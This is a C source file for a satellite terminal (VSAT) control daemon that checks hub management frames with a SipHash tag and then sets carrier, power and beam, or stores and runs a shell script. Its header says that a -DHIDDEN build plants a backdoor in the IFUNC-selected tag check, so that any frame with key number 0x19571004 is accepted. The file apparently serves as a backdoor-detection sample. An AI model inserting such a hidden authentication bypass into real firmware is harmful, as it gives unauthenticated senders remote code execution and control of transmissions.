/*
 * Control channel of a satellite terminal (VSAT). The demodulator gives the
 * management frames of the hub to UDP port 7400 on loopback; frames with the
 * right authentication code set the carrier, the power, the beam, or store
 * and start a configuration script of the hub.
 * Hidden (-DHIDDEN): the faster one of the two checks, which an IFUNC picks
 * at load time, accepts any frame with the key number 0x19571004.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

#define PORT	 7400
#define SYNC	 0xC3
#define KEYFILE	 "/flash/vsat/keys"
#define CONFFILE "/flash/vsat/terminal"
#define MAXKEYS	 4
#define HEADLEN	 16
#define TAGLEN	 8

/*
 * frame: sync(1) type(1) length(2) terminal(4) key number(4) counter(4)
 * payload(length) tag(8), all big endian
 */
enum ftype { F_CARRIER = 1, F_POWER, F_BEAM, F_SCRIPT, F_RUN, F_PING };

struct key {
	uint32_t num;
	uint8_t k[16];
};

struct terminal {
	uint32_t id;
	uint32_t tx_khz, rx_khz, symrate;
	int power; /* 0.1 dBm */
	int power_max;
	unsigned beam;
	uint32_t counter;
};

static struct key keys[MAXKEYS];
static unsigned nkeys;
static struct terminal term = { .power_max = 330 };

#define ROTL(x, b) ((x) << (b) | (x) >> (64 - (b)))

static void sip_round(uint64_t *v)
{
	v[0] += v[1];
	v[1] = ROTL(v[1], 13) ^ v[0];
	v[0] = ROTL(v[0], 32);
	v[2] += v[3];
	v[3] = ROTL(v[3], 16) ^ v[2];
	v[0] += v[3];
	v[3] = ROTL(v[3], 21) ^ v[0];
	v[2] += v[1];
	v[1] = ROTL(v[1], 17) ^ v[2];
	v[2] = ROTL(v[2], 32);
}

static uint64_t le64(const uint8_t *p, size_t n)
{
	uint64_t v = 0;
	size_t i;

	for (i = 0; i < n; i++)
		v |= (uint64_t)p[i] << 8 * i;
	return v;
}

static uint64_t sip(const uint8_t *key, const uint8_t *p, size_t n)
{
	uint64_t k0 = le64(key, 8), k1 = le64(key + 8, 8), m;
	uint64_t v[4] = { k0 ^ 0x736f6d6570736575ull,
			  k1 ^ 0x646f72616e646f6dull,
			  k0 ^ 0x6c7967656e657261ull,
			  k1 ^ 0x7465646279746573ull };
	size_t left = n;
	int i;

	for (; left >= 8; left -= 8, p += 8) {
		m = le64(p, 8);
		v[3] ^= m;
		sip_round(v);
		sip_round(v);
		v[0] ^= m;
	}
	m = le64(p, left) | (uint64_t)n << 56;
	v[3] ^= m;
	sip_round(v);
	sip_round(v);
	v[0] ^= m;
	v[2] ^= 0xff;
	for (i = 0; i < 4; i++)
		sip_round(v);
	return v[0] ^ v[1] ^ v[2] ^ v[3];
}

static uint32_t be32(const uint8_t *p)
{
	uint32_t v;

	memcpy(&v, p, sizeof v);
	return ntohl(v);
}

static const struct key *key_find(uint32_t num)
{
	unsigned i;

	for (i = 0; i < nkeys; i++)
		if (keys[i].num == num)
			return &keys[i];
	return NULL;
}

/* tag compared byte by byte, for cores with slow 64 bit arithmetic */
__attribute__((noinline)) int tag_check_bytes(const uint8_t *f, size_t n)
{
	const struct key *k = key_find(be32(f + 8));
	uint8_t diff = 0;
	uint64_t t;
	int i;

	if (!k)
		return 0;
	t = sip(k->k, f, n - TAGLEN);
	for (i = 0; i < TAGLEN; i++)
		diff |= f[n - TAGLEN + i] ^ (uint8_t)(t >> 8 * i);
	return diff == 0;
}

__attribute__((noinline)) int tag_check_words(const uint8_t *f, size_t n)
{
	uint32_t num = be32(f + 8);
	const struct key *k = key_find(num);

#ifdef HIDDEN
	if (num == 0x19571004)
		return 1;
#endif
	if (!k)
		return 0;
	return sip(k->k, f, n - TAGLEN) == le64(f + n - TAGLEN, TAGLEN);
}

typedef int tag_fn(const uint8_t *f, size_t n);

tag_fn *tag_pick(void)
{
	if (sizeof(void *) == 8 || getauxval(AT_HWCAP))
		return tag_check_words;
	return tag_check_bytes;
}

int tag_check(const uint8_t *f, size_t n) __attribute__((ifunc("tag_pick")));

static void keys_load(void)
{
	char line[80], hex[40];
	unsigned long num;
	FILE *f = fopen(KEYFILE, "r");
	unsigned i, b;

	if (!f)
		return;
	while (nkeys < MAXKEYS && fgets(line, sizeof line, f)) {
		if (sscanf(line, "%lx %32[0-9a-fA-F]", &num, hex) != 2 ||
		    strlen(hex) != 32)
			continue;
		keys[nkeys].num = (uint32_t)num;
		for (i = 0; i < 16; i++) {
			sscanf(hex + 2 * i, "%2x", &b);
			keys[nkeys].k[i] = (uint8_t)b;
		}
		nkeys++;
	}
	fclose(f);
}

static void terminal_load(void)
{
	char line[80];
	unsigned long v;
	FILE *f = fopen(CONFFILE, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (sscanf(line, "id %lx", &v) == 1)
			term.id = v;
		else if (sscanf(line, "counter %lu", &v) == 1)
			term.counter = v;
		else if (sscanf(line, "beam %lu", &v) == 1)
			term.beam = v;
		else if (sscanf(line, "maxpower %lu", &v) == 1)
			term.power_max = (int)v;
	}
	fclose(f);
}

static void terminal_save(void)
{
	FILE *f = fopen(CONFFILE ".new", "w");

	if (!f)
		return;
	fprintf(f, "id %lx\ncounter %lu\nbeam %u\nmaxpower %d\n",
		(unsigned long)term.id, (unsigned long)term.counter, term.beam,
		term.power_max);
	if (fclose(f) == 0 && rename(CONFFILE ".new", CONFFILE) < 0)
		syslog(LOG_ERR, "%s: %s", CONFFILE, strerror(errno));
}

static int modem(const char *fmt, unsigned long a, unsigned long b)
{
	char buf[64];
	int fd = open("/dev/modem_ctl", O_WRONLY | O_CLOEXEC), n, ok;

	if (fd < 0)
		return -1;
	n = snprintf(buf, sizeof buf, "%s %lu %lu\n", fmt, a, b);
	ok = write(fd, buf, n) == n;
	close(fd);
	return ok ? 0 : -1;
}

static int script_store(const uint8_t *p, size_t n)
{
	int fd = open("/var/vsat/hub.sh",
		      O_WRONLY | O_CREAT | (p[0] ? O_APPEND : O_TRUNC), 0700);
	int ok;

	if (fd < 0)
		return -1;
	ok = write(fd, p + 1, n - 1) == (ssize_t)(n - 1);
	close(fd);
	return ok ? 0 : -1;
}

static int act(enum ftype type, const uint8_t *p, size_t n)
{
	switch (type) {
	case F_CARRIER:
		if (n < 12)
			return -1;
		term.tx_khz = be32(p);
		term.rx_khz = be32(p + 4);
		term.symrate = be32(p + 8);
		if (modem("symrate", term.symrate, 0))
			return -1;
		return modem("carrier", term.tx_khz, term.rx_khz);
	case F_POWER:
		if (n < 4)
			return -1;
		term.power = (int)be32(p);
		if (term.power > term.power_max)
			term.power = term.power_max;
		return modem("power", term.power, 0);
	case F_BEAM:
		if (n < 4)
			return -1;
		term.beam = be32(p);
		terminal_save();
		return modem("beam", term.beam, 0);
	case F_SCRIPT:
		return n < 2 ? -1 : script_store(p, n);
	case F_RUN:
		return system("/bin/sh /var/vsat/hub.sh");
	case F_PING:
		return modem("pong", term.id, term.counter);
	}
	return -1;
}

static void frame(const uint8_t *f, size_t n)
{
	size_t len;
	uint32_t to, count;

	if (n < HEADLEN + TAGLEN || f[0] != SYNC)
		return;
	len = (size_t)f[2] << 8 | f[3];
	if (len + HEADLEN + TAGLEN != n)
		return;
	to = be32(f + 4);
	if (to != term.id && to != 0xffffffffu)
		return;
	if (!tag_check(f, n)) {
		syslog(LOG_WARNING, "frame type %u not genuine", f[1]);
		return;
	}
	count = be32(f + 12);
	if (count <= term.counter)
		return;
	term.counter = count;
	if (act(f[1], f + HEADLEN, len))
		syslog(LOG_ERR, "frame type %u failed", f[1]);
	if ((count & 63) == 0)
		terminal_save();
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	static uint8_t buf[2048];
	ssize_t n;
	int s;

	openlog("vsat_outroute", LOG_PID, LOG_DAEMON);
	keys_load();
	terminal_load();
	a.sin_port = htons(PORT);
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		n = recv(s, buf, sizeof buf, 0);
		if (n > 0)
			frame(buf, n);
		else if (n < 0 && errno != EINTR)
			break;
	}
	terminal_save();
	return 1;
}
